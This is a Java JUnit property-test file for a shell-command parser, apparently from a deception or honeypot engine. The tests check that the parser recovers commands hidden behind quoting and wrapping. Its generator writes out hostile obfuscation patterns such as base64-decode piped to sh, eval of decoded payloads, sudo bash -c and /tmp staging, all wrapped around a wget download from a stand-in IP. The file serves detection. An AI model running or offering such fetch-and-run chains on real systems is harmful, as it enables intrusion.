package org.decnet.engine.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Commands come out as they were, whatever quotes and encodings they are put in. */
class DisguiseProperties {
  private static final int RUNS = 2000;
  private static final String LETTERS = "abcxyz019 ;|&<>()$`\\\"*?#~=!{},é😀-/.";

  @Test
  void everyWayToQuoteAWordGivesTheWord() {
    for (int seed = 0; seed < RUNS; seed++) {
      Random random = new Random(seed);
      String word = word(random);
      String line = "echo " + quoted(word, random) + "; id";

      List<Statement> statements = new TolerantShellParser().parse(line).statements();

      assertThat(statements).as(line).hasSize(2);
      assertThat(statements.getFirst().args()).as(line).containsExactly(word);
    }
  }

  @Test
  void variablesHoldWordsWhole() {
    for (int seed = 0; seed < RUNS; seed++) {
      Random random = new Random(seed);
      String word = word(random);
      String line = "v=" + quoted(word, random) + "; echo \"$v\" x\"${v}\"";

      assertThat(new TolerantShellParser().parse(line).statements().getLast().args())
          .as(line)
          .containsExactly(word, "x" + word);
    }
  }

  @Test
  void wrappedCommandsAreTheInnermostStatement() {
    for (int seed = 0; seed < RUNS; seed++) {
      Random random = new Random(seed);
      List<String> words = List.of("wget", "http://198.51.100.7/" + seed, "-O", word(random));
      String line = single(words.get(3), words);
      int layers = 1 + random.nextInt(4);
      for (int i = 0; i < layers; i++) {
        line = wrapped(line, random);
      }

      List<List<String>> found =
          new TolerantShellParser()
              .parse(line).statements().stream().map(Statement::words).toList();

      assertThat(found).as(line).contains(words);
    }
  }

  private static String single(String last, List<String> words) {
    return String.join(" ", words.subList(0, 3)) + " '" + last + "'";
  }

  private static String wrapped(String line, Random random) {
    String quoted = "'" + line.replace("'", "'\\''") + "'";
    String encoded = Base64.getEncoder().encodeToString(line.getBytes(StandardCharsets.UTF_8));
    return switch (random.nextInt(9)) {
      case 0 -> "sh -c " + quoted;
      case 1 -> "sudo bash -c " + quoted + " &";
      case 2 -> "eval " + quoted;
      case 3 -> "echo " + encoded + " | base64 -d | sh";
      case 4 -> "bash <<< " + quoted;
      case 5 -> "x=" + encoded + "; eval \"$(echo $x | base64 --decode)\"";
      case 6 -> "echo " + encoded + " > f; base64 -d f > /tmp/g; sh /tmp/g";
      case 7 -> "sh <<'EOT'\n" + line + "\nEOT";
      default -> "if true; then { " + line + "\n}; fi";
    };
  }

  private static String word(Random random) {
    StringBuilder word = new StringBuilder("w");
    for (int i = random.nextInt(8); i > 0; i--) {
      int at = random.nextInt(LETTERS.codePointCount(0, LETTERS.length()));
      word.appendCodePoint(LETTERS.codePointAt(LETTERS.offsetByCodePoints(0, at)));
    }
    return word.toString();
  }

  private static String quoted(String word, Random random) {
    StringBuilder quoted = new StringBuilder();
    word.codePoints()
        .forEach(c -> {
          String letter = Character.toString(c);
          boolean plain = Character.isLetterOrDigit(c) || "-/.".contains(letter);
          quoted.append(
              switch (random.nextInt(plain ? 7 : 4)) {
                case 0 -> "'" + letter + "'";
                case 1 -> "\"" + ("$`\\\"".contains(letter) ? "\\" : "") + letter + "\"";
                case 2 -> "\\" + letter;
                case 3 ->
                    c < 0x80
                        ? "$'\\x" + Integer.toHexString(c | 0x100).substring(1) + "'"
                        : "$'" + letter + "'";
                case 4 -> "''" + letter;
                default -> letter;
              });
        });
    return quoted.toString();
  }
}
